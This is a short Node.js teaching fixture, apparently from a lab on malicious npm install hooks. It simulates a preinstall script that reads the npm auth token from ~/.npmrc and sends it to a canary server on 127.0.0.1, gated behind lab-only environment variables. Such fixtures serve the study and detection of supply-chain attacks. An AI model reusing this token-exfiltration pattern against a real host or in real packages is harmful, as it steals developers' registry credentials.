// HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
'use strict';
const { existsSync, readFileSync, writeFileSync } = require('fs');
const { join } = require('path');
const { get } = require('http');

const env = process.env;
if (env.HOOKLAB_CANARY_DIR && env.HOOKLAB_CANARY_PORT && existsSync(join(env.HOME || '', '.hooklab-fake-home'))) {
  writeFileSync(join(env.HOOKLAB_CANARY_DIR, `npm-preinstall.${process.pid}.marker`), 'preinstall ran\n'); // hooklab:payload
  const npmrc = readFileSync(join(env.HOME, '.npmrc'), 'utf8');
  const token = (npmrc.match(/_authToken=(\S+)/) || [])[1] || 'none';
  get({ host: '127.0.0.1', port: Number(env.HOOKLAB_CANARY_PORT), path: `/npm-preinstall?t=${token}` })
    .on('error', () => {});
}
